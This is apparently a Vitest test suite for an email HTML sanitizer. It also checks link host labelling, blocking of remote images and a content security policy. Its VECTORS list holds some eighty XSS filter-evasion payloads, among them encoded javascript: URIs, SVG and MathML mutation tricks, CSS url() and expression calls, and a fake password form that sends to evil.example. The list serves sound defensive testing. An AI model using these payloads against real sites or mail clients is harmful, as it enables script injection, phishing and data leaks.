import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { safeFragment, safeHtml, safeText } from '../../../gates/email/html/safe.ts';

interface Element {
  name: string;
  attributes: Readonly<Record<string, string>>;
}

/** What a browser would see of it. */
function elementsOf(html: string): { elements: Element[]; text: string } {
  const elements: Element[] = [];
  let text = '';
  const parser = new Parser({
    onopentag: (name, attributes) => elements.push({ name, attributes }),
    ontext: (piece) => (text += piece),
  });
  parser.end(html);
  return { elements, text };
}

const ALLOWED =
  /^(a|abbr|address|article|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|dfn|div|dl|dt|em|fig(caption|ure)|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|ol|p|pre|q|r[pt]|ruby|s|samp|section|small|span|strike|strong|sub|sup|t(able|body|d|foot|h|head|ime|r|t)|u|ul|var|wbr)$/;
const ATTRIBUTES =
  /^(align|alt|bgcolor|border|cellpadding|cellspacing|color|colspan|data-host|dir|face|height|href|lang|rel|rowspan|size|span|src|start|style|target|title|type|valign|width)$/;

/** Nothing in it runs, is sent, or is loaded from elsewhere. */
function expectHarmless(html: string, images = false): void {
  for (const { name, attributes } of elementsOf(html).elements) {
    expect(name).toMatch(ALLOWED);
    for (const [attribute, value] of Object.entries(attributes)) {
      expect(attribute).toMatch(ATTRIBUTES);
      if (attribute === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)/);
      if (attribute === 'src') {
        expect(value).toMatch(
          images ? /^(https?:\/\/|data:image\/(png|gif))/ : /^data:image\/(png|gif);base64,/,
        );
      }
      if (attribute === 'style') {
        expect(value).not.toMatch(/url|expression|import|position|behavior|binding|[\\<>@]|:\s*-/i);
      }
    }
  }
}

/** Forms of https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, and what mails add. */
const VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload=alert(2)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=`javascript:alert(1)`>',
  '<img src="jav&#x0A;ascript:alert(1)">',
  '<img src=" &#14; javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="https://evil.example/a 1x">',
  '<img src="//evil.example/p.gif">',
  '<img src="https://evil.example/p.gif">',
  '<img src="file:///etc/passwd">',
  '<img alt="<script>alert(1)</script>" src="https://evil.example/p.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/inside">x</a>',
  '<a href="https://evil.example" onclick="alert(1)" data-host="bank.example" id=x name=y>x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<form action="https://evil.example"><input name=p type=password><button formaction=javascript:alert(1)>x</button></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"><param name=x></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=X></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x)}</style>',
  '<style><!--</style><script>alert(1)</script>-->',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="background-image:url(&quot;https://evil.example/x&quot;)">x</div>',
  '<div style="background-color: \\75rl(https://evil.example/x)">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Your password</div>',
  '<div style="margin-top:-500px;color:red;list-style-image:url(https://evil.example/x)">x</div>',
  '<div style="font-family:\'x\';color:red;}</style><script>alert(1)</script>">x</div>',
  '<p style="color:red" onmouseover=alert(1)>x</p>',
  '<body onload=alert(1) background="https://evil.example/x.gif">x</body>',
  '<table background="https://evil.example/x.gif"><td background=javascript:alert(1)>x</td></table>',
  '<video src=x onerror=alert(1) autoplay poster=https://evil.example/x></video>',
  '<audio src=x onerror=alert(1)><source src=https://evil.example/x></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<select onfocus=alert(1) autofocus><option>x</option></select>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><script>alert(1)</script></template>',
  '<p title="a" title="b"><!--><img src=x onerror=alert(1)>--></p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<font color="javascript:alert(1)" face="x">x</font>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input type=image src=https://evil.example/x onerror=alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<a href="https://evil.example/&quot;&gt;<script>alert(1)</script>">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<b>'.repeat(5000),
  '<div><blockquote>'.repeat(3000),
];

describe('HTML of a mail, made safe', () => {
  it.each(VECTORS)('leaves nothing in %s that runs, is sent or reaches out', (vector) => {
    const safe = safeFragment(`<p>Before</p>${vector}<p>After</p>`);
    expectHarmless(safe);
    // Said twice, it is the same: nothing comes to life by being read again.
    expectHarmless(safeFragment(safe));
    if (!/^(<(style|xmp|noscript)|<!--)/.test(vector)) expect(safe).toContain('Before');
  });

  it.each(VECTORS)('nor with pictures allowed: %s', (vector) => {
    expectHarmless(safeFragment(vector, { images: true }), true);
  });

  it('keeps what a mail looks like', () => {
    const html =
      '<h1 style="color: #123456; text-align:center">Title</h1><table width="100%" bgcolor=#fff><tr><td colspan=2><b>bold</b> <i>italic</i></td></tr></table><ul><li>one</li></ul>';
    expect(safeFragment(html)).toBe(
      '<h1 style="color:#123456;text-align:center">Title</h1><table width="100%" bgcolor="#fff"><tr><td colspan="2"><b>bold</b> <i>italic</i></td></tr></table><ul><li>one</li></ul>',
    );
  });

  it('says of every link where it leads, whatever its words say', () => {
    const html =
      '<a href="https://evil.example/login" title="bank" target=_self>https://bank.example</a><a href="mailto:anna@example.org">Anna</a><a href="https://xn--80ak6aa92e.example">b</a><a href="https://аррӏе.example/">c</a>';
    const links = elementsOf(safeFragment(html)).elements;
    expect(links.map(({ attributes }) => [attributes['href'], attributes['data-host']])).toEqual([
      ['https://evil.example/login', 'evil.example'],
      ['mailto:anna@example.org', undefined],
      ['https://xn--80ak6aa92e.example/', 'xn--80ak6aa92e.example'],
      ['https://xn--80ak6aa92e.example/', 'xn--80ak6aa92e.example'],
    ]);
    for (const { attributes } of links) {
      expect(attributes).toMatchObject({ rel: 'noopener noreferrer nofollow', target: '_blank' });
      expect(attributes['title']).toBe(attributes['href']);
    }
  });

  it('loads no picture from the web unless that is wished', () => {
    const html = '<img src="https://t.example/1.gif" alt="Logo" width=10 height=javascript:1>';
    expect(safeFragment(html)).toBe('<span>[Logo — t.example]</span>');
    expect(safeFragment(html, { images: true })).toBe(
      '<img src="https://t.example/1.gif" alt="Logo" width="10" />',
    );
  });

  it('puts in the pictures that the mail carries along', () => {
    const cid = (id: string) => (id === 'logo@example.org' ? 'data:image/png;base64,AAAA' : null);
    expect(safeFragment('<img src="cid:logo%40example.org"><img src="CID:other">', { cid })).toBe(
      '<img src="data:image/png;base64,AAAA" /><span>[image]</span>',
    );
  });

  it('is a whole page that would stop even what were left in it', () => {
    const page = safeHtml('<p>Hello</p>', {
      title: '</title><script>alert(1)</script>',
      facts: [['From', '"Anna" <anna@example.org>']],
    });
    const { elements, text } = elementsOf(page);
    const policy = elements.find(({ attributes }) => attributes['http-equiv'])?.attributes[
      'content'
    ];
    expect(policy).toBe(
      "default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'",
    );
    // Before anything that it could be about.
    expect(elements.slice(0, 4).map(({ name }) => name)).toEqual(['html', 'head', 'meta', 'meta']);
    expect(elements.map(({ name }) => name)).not.toContain('script');
    expect(text).toContain('"Anna" <anna@example.org>');
    expect(safeHtml('', { images: true })).toContain('img-src data: http: https:');
    expect(safeText('<b>1 < 2</b>')).toContain('<pre>&#60;b&#62;1 &#60; 2&#60;/b&#62;</pre>');
  });
});
